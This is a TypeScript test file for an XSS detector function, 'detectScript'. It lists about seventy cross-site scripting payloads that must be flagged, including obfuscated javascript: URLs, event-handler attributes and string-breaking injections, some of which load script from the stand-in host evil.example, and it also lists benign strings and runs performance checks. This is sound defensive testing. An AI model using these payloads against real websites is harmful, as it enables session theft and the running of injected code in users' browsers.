import fc from 'fast-check';
import { expect, test } from 'vitest';
import { detectScript } from './detect-script.ts';

/** Between other bytes, which must not count. */
const xss = (text: string): boolean => {
  const buf = Buffer.from(`<${text}=x>`, 'latin1');
  return detectScript(buf, 1, buf.length - 3);
};

const attacks = [
  // Elements, in all the ways to write them.
  '<script>alert(1)</script>',
  '<SCRIPT/x>',
  '<scr\0ipt>',
  '<svg/onload=1>',
  '<xsl:value-of>',
  '</script x',
  'text <iframe src=//evil.example>',
  // Attributes: events known and of a known family, styles, namespaces.
  '<a onclick=x>',
  '<a href=b style="width:1%">',
  '<b onmouseleave = "x">',
  '<x xmlns="http://a.b/">',
  '<img src=x onerror\n=\nalert(1)>',
  '<animate attributeName=onload to=1>',
  // Out of an attribute.
  '" onfocus=alert(1) autofocus="',
  "' onfocus='x",
  '` onfocus=x',
  'x onfocus=alert(1)',
  '"><script>',
  // URLs.
  '<a href="javascript:alert(1)">',
  '<a href=" \x01JaVa\tScript:x">',
  '<a href="&#106;avascript&#x3a;x">',
  '<a href="&#x6A;avascript:x">',
  '<a href="&Tab;j&NewLine;avascript:x">',
  '<a href=data:text/html,x>',
  'x" href="vbscript:x',
  // What old browsers take for script.
  '<!DOCTYPE html>',
  '<!--[if IE]>x<![endif]-->',
  '<!-- ` -->',
  '<?import x>',
  '<!ENTITY x "y">',
  '<% ` %>',
  '<% % ` %>',
  // Out of a text of the page's script.
  "'-alert(1)-'",
  '"-alert(1)-"',
  '`-alert(1)-`',
  "x';alert(1)//",
  "x';alert(1)/*",
  "\\';alert(1)//",
  '"+confirm`1`+"',
  "');alert(1);('",
  "'}]);eval(name)<!--",
  "'-self?.['alert']?.(1)-'",
  "';location=name//",
  "';onerror=alert;throw 1//",
  "';if(1){fetch('//evil.example')}/*",
  "'in new Image(1) in'",
  "'-/x/.source.constructor.constructor('alert(1)')()-'",
  `\${alert(1)}`,
  `x \${top["al"+"ert"](1)} y`,
  "'-import('//evil.example')-'",
  "'(alert(1))-'",
  '"\n(fetch(name))//',
  "' [console.log(1)]//",
  `\${$.getScript('//evil.example')}`,
  '<a filter=alpha(x)>',
  '<set to="javascript:x">',
  `\${location=name}`,
  `'-"a"*alert(1)-'`,
  "'-$(name)-'",
  "');(alert)(1)//",
  "'-a(-1)-'",
  "'-!--a+alert(1)-'",
  "';/*\n,*/alert(1)//",
  "x\\' y';alert(1)//",
  '<x srcdoc=y>',
  '<x xmlns:y="http://a.b/">',
  '<x xlink:type=simple>',
  '<!-- -\0-><script>',
  '<a href= javascript:x>',
];

test.each(attacks)('%j is script', (text) => {
  expect(xss(text)).toBe(true);
});

test.each([
  'a < b and onward = c',
  '< b title = c',
  '<b>on time=money</b> content=1',
  'onset = 5, only = 6, once = 7',
  'x=1&y=2',
  '<p class="x">text</p>',
  '<a href="https://shop.example/data:">shop</a>',
  '<!-- a comment -->',
  'I <3 "quotes" = good',
  'if (a <b && c=d) { }',
  "name='O'Brien' value=\"1\"",
  '<javascript:x',
  // Quotes and calls in prose, code and markdown.
  "it's - a (test) - isn't it",
  "the users' - see man(1) - own",
  "rock 'n' roll (live)",
  `5' - 10" (wide)`,
  "'a' + b('c') + 'd'",
  "x=''; y('z')",
  `{"a":"b(c)","d":'e'}`,
  "a='&b=f(1)&c='",
  '- `.option()` and `--flag`',
  '["text"](https://shop.example/a(b))',
  `\${name} and \${price.toFixed(2)}`,
  '"(foo(bar)?)"',
  "'[data-x(1)]'",
  `\${$.bold(command)} \${x:-$(pwd)}`,
  'filter=price',
  "the users' - see man(1) - 'own'",
  "x'=name//",
  "x']--//",
  "c'++//=",
  "'(new Date)//",
  '<a href="da ta:x">',
  '<!-- a -\0-> `b`',
])('%j is none', (text) => {
  expect(xss(text)).toBe(false);
});

test('script is found anywhere in a long text', () => {
  for (const at of [0, 4080, 4096, 10_000, 50_000]) {
    expect(xss(`${'\xe9 '.repeat(at)}<script>alert(1)</script>${'x'.repeat(3000)}`)).toBe(true);
  }
});

test('a value ends where it ends, whatever goes on behind it', () => {
  for (const attack of attacks) {
    const whole = Buffer.from(attack, 'latin1');
    for (let end = 1; end <= whole.length; end++) {
      const alone = Uint8Array.from(whole.subarray(0, end));
      expect(detectScript(whole, 0, end), `${end} bytes of ${attack}`).toBe(detectScript(alone, 0, end));
    }
  }
});

test('any bytes have an answer, and the same one wherever they lie', () => {
  const piece = fc.constantFrom(
    ...[
      '<',
      '>',
      '/',
      '=',
      '"',
      "'",
      '`',
      ' ',
      '!',
      '--',
      '%',
      '?',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<%',
      '%>',
      '&#',
      '&#x6a',
      ';',
      '\0',
    ],
    ...['script', 'b', 'onclick', 'href', 'style', 'javascript:', 'doctype', 'data', '\xff'],
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
      const buf = Buffer.from(pieces.join(''), 'latin1');
      expect(xss(pieces.join(''))).toBe(detectScript(buf, 0, buf.length));
    }),
    { numRuns: 3000 },
  );
});

test.each([
  "'-(",
  "'-a.",
  '${',
  '${/*',
  '${(',
  '${"',
  "'/*",
  '`-`',
  "\\'",
  "'-a`",
  '"/',
  "';if(",
  "'\n",
  '<a b=',
  '<!--',
])('two megabytes of %s are read once, not once for each of them', (unit) => {
  const buf = Buffer.from(unit.repeat(2_000_000 / unit.length));
  // Read to the end for each, they would take minutes.
  expect(() => detectScript(buf, 0, buf.length)).not.toThrow();
});
